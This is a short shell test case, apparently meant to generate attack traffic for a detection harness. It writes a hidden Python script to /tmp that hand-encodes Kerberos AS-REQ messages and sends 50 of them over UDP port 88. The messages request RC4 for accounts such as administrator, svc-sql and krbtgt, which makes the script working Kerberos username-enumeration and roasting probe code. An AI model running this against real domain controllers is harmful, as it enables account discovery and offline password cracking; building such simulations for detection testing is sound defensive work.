#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.as.py <<'END'
import os, socket
def t(n, b): return bytes([n]) + (bytes([len(b)]) if len(b) < 128 else bytes([0x82]) + len(b).to_bytes(2, "big")) + b
def gs(x): return t(0x1b, x.encode())
def name(k, *p): return t(0x30, t(0xa0, t(2, bytes([k]))) + t(0xa1, t(0x30, b"".join(map(gs, p)))))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); n = 0
for u in ("administrator svc-sql svc-backup svc-web krbtgt anna bob carol dave eve".split() * 5):
    u += str(n % 5 or ""); body = t(0x30, t(0xa0, t(3, b"\0\x50\x80\0\0")) + t(0xa1, name(1, u)) + t(0xa2, gs("EXAMPLE.COM")) + t(0xa3, name(2, "krbtgt", "EXAMPLE.COM")) + t(0xa5, t(0x18, b"20370913024805Z")) + t(0xa7, t(2, os.urandom(4))) + t(0xa8, t(0x30, t(2, b"\x17"))))
    m = t(0x6a, t(0x30, t(0xa1, t(2, b"\5")) + t(0xa2, t(2, b"\x0a")) + t(0xa4, body)))
    s.sendto(m, ("203.0.113.88", 88)); n += 1
assert n == 50
END
python3 /tmp/.as.py
took_place
